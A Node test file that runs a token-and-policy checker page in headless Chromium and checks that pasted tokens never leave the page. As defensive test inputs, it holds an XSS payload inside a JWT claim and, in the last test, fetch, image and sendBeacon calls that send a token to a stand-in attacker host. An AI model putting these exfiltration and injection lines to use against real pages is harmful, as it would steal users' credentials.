// The page in a headless Chromium. `cargo xtask test --only web-page` runs it; POSTERN_WEB_SCREENSHOTS names a folder for
// pictures of it.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { after, before, beforeEach, test } from "node:test";
import { join } from "node:path";

import { Chromium } from "./chromium.mjs";

const folder = process.env.POSTERN_WEB_PACKAGE;
const pictures = process.env.POSTERN_WEB_SCREENSHOTS;
const TYPES = { html: "text/html", css: "text/css", js: "text/javascript", wasm: "application/wasm" };
const FILES = ["/", "/page.css", "/page.js", "/postern_web.js", "/postern_web_bg.wasm"];
const TOKEN = "pst_EXAMPLEdoNotUseThisTokenAnywhereEXAMPLE00fmMKY";
const policy = await readFile(new URL("../../policies/examples/team/policy.json", import.meta.url), "utf8");

let browser;
let origin;
/** Every request that the page makes, whatever its target: URL, method and body. */
let requests = [];
/** What the page writes to its console, and what fails in it. */
let complaints = [];

const server = createServer(async (request, response) => {
  const path = request.url === "/" ? "/index.html" : request.url;
  try {
    if (!FILES.includes(request.url)) throw new Error("no such file");
    const content = await readFile(join(folder, path));
    response.writeHead(200, { "content-type": TYPES[path.split(".").pop()] }).end(content);
  } catch {
    response.writeHead(404).end();
  }
});

before(async () => {
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${server.address().port}`;
  browser = await Chromium.start(process.env.POSTERN_CHROMIUM);
  browser.on("Fetch.requestPaused", ({ requestId, request }) => {
    requests.push(request);
    // Only what the server has is answered; all else fails here, before it reaches a network.
    const isOwn = FILES.some((file) => request.url === origin + file);
    const rule = isOwn ? ["Fetch.continueRequest", {}] : ["Fetch.failRequest", { errorReason: "BlockedByClient" }];
    browser.send(rule[0], { requestId, ...rule[1] }).catch((error) => complaints.push(error.message));
  });
  browser.on("Runtime.exceptionThrown", ({ exceptionDetails }) => complaints.push(exceptionDetails.text));
  browser.on("Log.entryAdded", ({ entry }) => complaints.push(entry.text));
  browser.on("Network.webSocketCreated", ({ url }) => requests.push({ url, method: "WebSocket" }));
  for (const domain of ["Page", "Runtime", "Log", "Network"]) await browser.send(`${domain}.enable`);
  await browser.send("Network.setCacheDisabled", { cacheDisabled: true });
  await browser.send("Fetch.enable", { patterns: [{ urlPattern: "*" }] });
});

after(async () => {
  await browser?.close();
  server.close();
});

beforeEach(async () => {
  requests = [];
  complaints = [];
  await browser.send("Emulation.setDeviceMetricsOverride", { width: 900, height: 1000, deviceScaleFactor: 1, mobile: false });
  await browser.send("Page.navigate", { url: `${origin}/` });
  await browser.until(`location.href === ${JSON.stringify(`${origin}/`)} && document.querySelector("#status")?.textContent === "Ready."`);
});

const value = (selector) => browser.evaluate(`document.querySelector(${JSON.stringify(selector)}).innerText`);
const click = (selector) => browser.evaluate(`document.querySelector(${JSON.stringify(selector)}).click()`);

/** Pastes a text where a person would: into the field that has the focus. */
async function paste(selector, text) {
  await browser.evaluate(`{ const field = document.querySelector(${JSON.stringify(selector)}); field.focus(); field.select?.(); }`);
  await browser.send("Input.insertText", { text });
  assert.equal(await browser.evaluate(`document.querySelector(${JSON.stringify(selector)}).value`), text);
}

async function picture(name) {
  if (!pictures) return;
  const { data } = await browser.send("Page.captureScreenshot", { format: "png", captureBeyondViewport: true });
  await writeFile(join(pictures, `${name}.png`), Buffer.from(data, "base64"));
}

/** Nothing was asked for but the page's own files, and none of them with a word of what was pasted. */
function assertNothingLeft() {
  assert.deepEqual(requests.map(({ url }) => url).sort(), FILES.map((file) => origin + file).sort());
  assert.ok(requests.every(({ method, hasPostData }) => method === "GET" && !hasPostData));
  assert.deepEqual(complaints, []);
}

test("a pasted API token is read and hashed in the page, and nothing of it leaves the page", async () => {
  await paste("#token", TOKEN.replace("EXAMPLEdo", "EXAMPLEdO"));
  await click("#read");
  assert.match(await value("#token-result"), /checksum is wrong/);

  const foreign = "0f9a3d77c2e14b68a5d0e1f2a3b4c5d6";
  await paste("#token", foreign);
  await click("#hash");
  const hash = createHash("sha256").update(foreign).digest("hex");
  assert.match(await value("#token-result"), new RegExp(`sha256:${hash}`));
  assert.match(await value("#token-result"), /at least 128 bits/);

  await paste("#token", TOKEN);
  await click("#hash");
  assert.match(await value("#token-result"), /everybody knows this token/);
  await click("#clear");
  assert.equal(await value("#token-result"), "");
  assertNothingLeft();
});

test("a pasted JWT is shown with its claims and times, as text and not as markup", async () => {
  const segment = (object) => Buffer.from(JSON.stringify(object)).toString("base64url");
  const claims = { sub: "<img src=x onerror=alert(1)>", iat: 1796083200, exp: 1796083800 };
  await paste("#token", `Bearer ${segment({ alg: "HS256", typ: "at+jwt" })}.${segment(claims)}.c2ln`);
  await click("#read");
  const shown = await value("#token-result");
  assert.match(shown, /signature was not checked/i);
  assert.ok(shown.includes("<img src=x onerror=alert(1)>"));
  assert.match(shown, /ends at 2026-12-01T00:10:00Z/);
  assert.equal(await browser.evaluate(`document.querySelectorAll("img").length`), 0);
  await picture("token");
  assertNothingLeft();
});

test("a request is tried against a pasted policy, and its refusal is explained by names", async () => {
  await paste("#configuration", policy);
  await paste("#method", "POST");
  await paste("#authority", "api.example.com");
  await paste("#path", "/orders");
  await browser.evaluate(`document.querySelector("#caller-kind").value = "accessTokenOf"`);
  await paste("#caller-id", "warehouse-1");
  await paste("#now", "2026-12-01T00:00:00Z");
  await click("#try");
  const refused = await value("#try-result");
  assert.match(refused, /refused \(HTTP 403\)/);
  assert.match(refused, /not_in_audience/);
  assert.match(refused, /create of orders/);
  assert.match(refused, /role storefront: web-shop/);
  assert.match(refused, /Add "warehouse-robot" to services\[0\]/);
  await picture("refused");

  await paste("#caller-id", "web-shop-2026");
  await click("#try");
  assert.match(await value("#try-result"), /^allowed/);
  assert.match(await value("#try-result"), /x-postern-person: web-shop/);
  await browser.send("Emulation.setEmulatedMedia", { features: [{ name: "prefers-color-scheme", value: "dark" }] });
  await picture("allowed-dark");
  await browser.send("Emulation.setEmulatedMedia", { features: [] });
  await browser.send("Emulation.setDeviceMetricsOverride", { width: 360, height: 800, deviceScaleFactor: 1, mobile: true });
  assert.ok(await browser.evaluate("document.documentElement.scrollWidth <= 360"), "the page is wider than a phone");
  await picture("allowed-narrow");

  await paste("#configuration", policy.replace('"person": "web-shop"', '"person": "nobody"'));
  await click("#try");
  assert.match(await value("#try-result"), /tokens\[0\]\.person: there is no person "nobody"/);
  assertNothingLeft();
});

test("the page works from the keyboard, and each field has a label", async () => {
  const unlabelled = `[...document.querySelectorAll("input, textarea, select")].filter((field) => !field.labels.length).length`;
  assert.equal(await browser.evaluate(unlabelled), 0);
  await paste("#caller-id", "x");
  await paste("#path", "/x");
  for (const type of ["rawKeyDown", "char", "keyUp"]) {
    await browser.send("Input.dispatchKeyEvent", { type, key: "Enter", code: "Enter", text: "\r", windowsVirtualKeyCode: 13 });
  }
  await browser.until(`document.querySelector("#try-result").innerText !== ""`);
  assert.match(await value("#try-result"), /A gateway would refuse this configuration/);
  assertNothingLeft();
});

test("a page that would send a token away is stopped by the page's own policy", async () => {
  const away = JSON.stringify(`https://attacker.example/?${TOKEN}`);
  await browser.evaluate(`fetch(${away}).catch(() => {})`);
  await browser.evaluate(`new Promise((end) => Object.assign(new Image(), { onload: end, onerror: end, src: ${away} }))`);
  await browser.evaluate(`new Promise((end) => end(navigator.sendBeacon(${away})))`);
  const blocked = () => complaints.filter((text) => /Content Security Policy/.test(text)).length;
  for (let tries = 0; tries < 100 && blocked() < 3; tries += 1) await browser.evaluate("0");
  assert.ok(blocked() >= 3, complaints.join("\n"));
  // The interception that the other tests rely on would have seen an attempt that got further.
  assert.ok(requests.every(({ url }) => url.startsWith(origin)), JSON.stringify(requests.map(({ url }) => url)));
});
